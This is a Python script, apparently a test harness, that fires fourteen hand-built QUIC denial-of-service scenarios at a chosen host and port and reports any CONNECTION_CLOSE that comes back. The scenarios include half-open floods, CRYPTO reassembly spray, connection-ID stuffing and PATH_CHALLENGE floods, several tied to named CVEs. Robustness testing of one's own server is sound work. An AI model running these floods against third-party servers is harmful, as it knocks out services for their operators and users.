"""Attacks on a QUIC server by an implementation that is not ours: `attacker.py HOST PORT SCENARIO`.

aioquic completes the handshake and lends its keys; the packets that no library would send are put together here, frame
by frame. So our own packet writer and our own server cannot agree on the same mistake. Prints one line of JSON: how
many packets were sent, and the error code of the CONNECTION_CLOSE that came back, if one did.
"""

import argparse
import asyncio
import copy
import os
import socket
import time
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager

from aioquic.buffer import Buffer
from aioquic.buffer import encode_uint_var as varint
from aioquic.quic.configuration import QuicConfiguration
from aioquic.quic.connection import QuicConnection
from aioquic.quic.crypto import CryptoError, CryptoPair
from aioquic.quic.packet import QuicProtocolVersion
from aioquic.tls import Epoch
from peer import Client, Result, Server, report

# Far from the numbers that the honest part of the connection has used.
FIRST_PACKET_NUMBER = 10_000
# What a client grants the server for each stream that is to have next to nothing: enough for its first echo.
LITTLE_CREDIT = 16
HALF_OPEN_CLIENTS = 200
SPRAYING_CLIENTS = 50
SPRAY_DATAGRAMS = 10
FLOOD_PACKETS = 3_000
# Packets in a row before the server gets a moment to read them: fewer than fit into a socket's default queue.
BURST = 32
PAUSE_SECONDS = 0.002
PATIENCE_SECONDS = 25.0


class Attacker:
    """One connection whose handshake was honest, and which says only what a scenario makes it say from then on."""

    def __init__(self, client: Client) -> None:
        quic = client._quic
        self._transport = client._transport
        self._address = quic._network_paths[0].addr
        self._identifier_bytes = len(quic.host_cid)
        self.destination = quic._peer_cid.cid
        # Copies: aioquic throws its keys away when it believes the connection to be over.
        self._crypto = copy.copy(quic._cryptos[Epoch.ONE_RTT])
        self._crypto.send, self._crypto.recv = copy.copy(self._crypto.send), copy.copy(self._crypto.recv)
        self._number = FIRST_PACKET_NUMBER
        self.sent = 0
        # The number of the server's packet that is expected next, near enough to tell what its two bytes stand for.
        self.heard = quic._spaces[Epoch.ONE_RTT].expected_packet_number
        self.error_code: int | None = None
        # From now on aioquic neither hears nor says anything: no acknowledgement, no probe.
        client.transmit = lambda: None
        client.datagram_received = lambda datagram, _: self._hear(datagram)

    def packet(self, frames: bytes) -> bytes:
        """One 1-RTT packet with these frames. RFC 9000 §17.3.1."""
        header = bytes([0x43 | self._crypto.key_phase << 2]) + self.destination + self._number.to_bytes(4, "big")
        packet = self._crypto.encrypt_packet(header, frames.ljust(8, b"\0"), self._number)
        self._number += 1
        return packet

    def send(self, frames: bytes) -> None:
        self.send_datagram(self.packet(frames))

    def send_datagram(self, datagram: bytes) -> None:
        self._transport.sendto(datagram, self._address)
        self.sent += 1

    async def flood(self, packets: list[bytes]) -> None:
        """Sends packets with these frames, until they are through or the server has closed the connection."""
        for number, frames in enumerate(packets):
            if self.is_over:
                return
            self.send(frames)
            if number % BURST == 0:
                await asyncio.sleep(PAUSE_SECONDS)

    async def keep_up(self, frames: bytes, interval: float) -> None:
        """Sends the same frames again and again, as long as the server lets it."""
        deadline = time.monotonic() + PATIENCE_SECONDS
        while not self.is_over and time.monotonic() < deadline:
            self.send(frames)
            await asyncio.sleep(interval)

    def _hear(self, datagram: bytes) -> None:
        """Looks for CONNECTION_CLOSE in a packet of the server's."""
        try:
            payload = self._crypto.decrypt_packet(datagram, 1 + self._identifier_bytes, self.heard)[1]
        except CryptoError:
            return
        self.heard += 1
        if (code := close_error(payload)) is not None:
            self.error_code = code

    @property
    def is_over(self) -> bool:
        return self.error_code is not None

    async def result(self, patience: float = 3.0) -> Result:
        """What came of it, once the server has closed the connection or had the time to."""
        deadline = time.monotonic() + patience
        while not self.is_over and time.monotonic() < deadline:
            await asyncio.sleep(0.02)
        return {"sent": self.sent, "error_code": self.error_code}


@asynccontextmanager
async def attacking(server: Server, **options: object) -> AsyncIterator[Attacker]:
    async with server.connected("echo", **options) as client:
        # HANDSHAKE_DONE, the tickets and their acknowledgements are out of the way.
        await client.echo(b"honest so far")
        await asyncio.sleep(0.1)
        attacker = Attacker(client)
        yield attacker
        # aioquic would wait for its own closing period.
        client._closed.set()


# Frames. RFC 9000 §19.

PING = b"\x01"


def stream(number: int, offset: int, data: bytes) -> bytes:
    return b"\x0e" + varint(number) + varint(offset) + varint(len(data)) + data


def crypto_frame(offset: int, data: bytes) -> bytes:
    return b"\x06" + varint(offset) + varint(len(data)) + data


def acknowledgement(largest: int, first_range: int) -> bytes:
    return b"\x02" + varint(largest) + varint(0) + varint(0) + varint(first_range)


def new_connection_id(number: int, retire_before: int) -> bytes:
    return b"\x18" + varint(number) + varint(retire_before) + bytes([8]) + os.urandom(8) + os.urandom(16)


def close_error(payload: bytes) -> int | None:
    """The error of the CONNECTION_CLOSE that a packet begins with, or has after an ACK. RFC 9000 §19.19."""
    buffer = Buffer(data=payload)
    while not buffer.eof():
        match buffer.pull_uint_var():
            case 0x00 | 0x01:
                pass
            case 0x02:
                buffer.pull_uint_var()
                buffer.pull_uint_var()
                for _ in range(2 * buffer.pull_uint_var() + 1):
                    buffer.pull_uint_var()
            case 0x1C | 0x1D:
                return buffer.pull_uint_var()
            case _:
                return None
    return None


# Scenarios without a handshake


def initial(frames: bytes, destination: bytes, number: int) -> bytes:
    """A first packet of 1,200 bytes with these frames. RFC 9000 §17.2.2, RFC 9001 §5.2."""
    pair = CryptoPair()
    pair.setup_initial(cid=destination, is_client=True, version=QuicProtocolVersion.VERSION_1)
    ids = bytes([len(destination)]) + destination + bytes([8]) + bytes(8)
    overhead = 1 + 4 + len(ids) + 1 + 2 + 4 + 16
    payload = frames.ljust(1_200 - overhead, b"\0")
    length = (0x4000 | len(payload) + 4 + 16).to_bytes(2, "big")
    header = b"\xc3" + (1).to_bytes(4, "big") + ids + b"\0" + length + number.to_bytes(4, "big")
    return pair.encrypt_packet(header, payload, number)


def first_flight() -> bytes:
    """The first datagram of a client that really could connect."""
    client = QuicConnection(configuration=QuicConfiguration(is_client=True, alpn_protocols=["echo"]))
    client.connect(("127.0.0.1", 1), now=0.0)
    return client.datagrams_to_send(now=0.0)[0][0]


async def half_open(server: Server) -> Result:
    """First flights from many ports, and nothing after them."""
    sockets = [socket.socket(socket.AF_INET, socket.SOCK_DGRAM) for _ in range(HALF_OPEN_CLIENTS)]
    for number, client in enumerate(sockets):
        client.sendto(first_flight(), (server.host, server.port))
        if number % BURST == 0:
            await asyncio.sleep(PAUSE_SECONDS)
    await asyncio.sleep(0.5)
    for client in sockets:
        client.close()
    return {"sent": HALF_OPEN_CLIENTS, "error_code": None}


async def crypto_spray(server: Server) -> Result:
    """Single bytes of CRYPTO, 8 KiB apart: each pins a chunk of reassembly. CVE-2025-54939 and its kin."""
    sent = 0
    clients = [(socket.socket(socket.AF_INET, socket.SOCK_DGRAM), os.urandom(8)) for _ in range(SPRAYING_CLIENTS)]
    for round_number in range(SPRAY_DATAGRAMS):
        for client, destination in clients:
            base = round_number * 3
            frames = b"".join(crypto_frame(1 + base + chunk * 8_192, b"x") for chunk in range(8))
            client.sendto(initial(frames, destination, round_number), (server.host, server.port))
            sent += 1
            if sent % BURST == 0:
                await asyncio.sleep(PAUSE_SECONDS)
    await asyncio.sleep(0.5)
    for client, _ in clients:
        client.close()
    return {"sent": sent, "error_code": None}


# Scenarios under the keys of a connection


async def post_handshake_crypto(server: Server) -> Result:
    """TLS messages after the handshake, which a client has no use for."""
    async with attacking(server) as attacker:
        attacker.send(crypto_frame(0, bytes(200)))
        return await attacker.result()


async def stream_gaps(server: Server) -> Result:
    """Every other byte of a stream: a gap to remember for each."""
    async with attacking(server) as attacker:
        packets = [
            b"".join(stream(4, 1 + 2 * (base + index), b"x") for index in range(150)) for base in range(0, 6_000, 150)
        ]
        await attacker.flood(packets)
        return await attacker.result()


async def out_of_order(server: Server) -> Result:
    """One byte out of order on every stream there may be, then PINGs for ever."""
    async with attacking(server) as attacker:
        attacker.send(b"".join(stream(4 * number, 4_000, b"x") for number in range(1, 16)))
        await attacker.keep_up(PING, 0.25)
        return await attacker.result()


async def stream_limit(server: Server) -> Result:
    """A stream above the limit. RFC 9000 §4.6."""
    async with attacking(server) as attacker:
        attacker.send(stream(4 * 4_000, 0, b"x"))
        return await attacker.result()


async def withheld_acknowledgements(server: Server) -> Result:
    """Messages whose echoes are never acknowledged, and PINGs that keep the idle timer from ending it."""
    async with attacking(server) as attacker:
        attacker.send(stream(4, 0, bytes(1_000)))
        await attacker.keep_up(PING, 0.25)
        return await attacker.result()


async def optimistic_acknowledgement(server: Server) -> Result:
    """An acknowledgement of packets that were never sent. RFC 9000 §13.1."""
    async with attacking(server) as attacker:
        attacker.send(acknowledgement(1_000_000, 10))
        return await attacker.result()


async def connection_id_stuffing(server: Server) -> Result:
    """More connection IDs than the server said it would keep. RFC 9000 §5.1.1; CVE-2024-22189."""
    async with attacking(server) as attacker:
        await attacker.flood([new_connection_id(number, 0) for number in range(8, 200)])
        return await attacker.result()


async def connection_id_retirement(server: Server) -> Result:
    """New IDs that ask to retire all before them, faster than RETIRE_CONNECTION_ID is acknowledged."""
    async with attacking(server) as attacker:
        await attacker.flood([new_connection_id(number, number) for number in range(8, 400)])
        return await attacker.result()


async def path_challenge_flood(server: Server) -> Result:
    """PATH_CHALLENGE by the thousand, whose answers are never acknowledged. CVE-2023-49295."""
    async with attacking(server) as attacker:
        await attacker.flood([b"\x1a" + os.urandom(8) for _ in range(FLOOD_PACKETS)])
        return await attacker.result(0.5)


async def zero_window_reader(server: Server) -> Result:
    """Messages whose echoes it never gives the server credit for."""
    async with attacking(server, max_stream_data=LITTLE_CREDIT) as attacker:
        attacker.send(stream(4, 0, bytes(1_000)) + PING)
        await attacker.keep_up(PING, 0.25)
        return await attacker.result()


async def trickle(server: Server) -> Result:
    """A stream that gets a byte at a time, for ever."""
    async with attacking(server) as attacker:
        deadline = time.monotonic() + PATIENCE_SECONDS
        offset = 0
        while not attacker.is_over and time.monotonic() < deadline:
            heard = acknowledgement(attacker.heard - 1, attacker.heard - 1)
            attacker.send(heard + stream(4, offset, b"x"))
            offset += 1
            await asyncio.sleep(0.25)
        return await attacker.result()


async def undecryptable(server: Server) -> Result:
    """Packets to the connection's ID that nobody has the keys of."""
    async with attacking(server) as attacker:
        for number in range(FLOOD_PACKETS):
            attacker.send_datagram(b"\x43" + attacker.destination + os.urandom(40))
            if number % BURST == 0:
                await asyncio.sleep(PAUSE_SECONDS)
        return await attacker.result(0.5)


SCENARIOS = {
    scenario.__name__.replace("_", "-"): scenario
    for scenario in [
        half_open, crypto_spray, post_handshake_crypto, stream_gaps, out_of_order, stream_limit,
        withheld_acknowledgements, optimistic_acknowledgement, connection_id_stuffing, connection_id_retirement,
        path_challenge_flood, zero_window_reader, trickle, undecryptable,
    ]
}


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("host")
    parser.add_argument("port", type=int)
    parser.add_argument("scenario", choices=SCENARIOS)
    arguments = parser.parse_args()
    report(SCENARIOS[arguments.scenario](Server(arguments.host, arguments.port)))


if __name__ == "__main__":
    main()
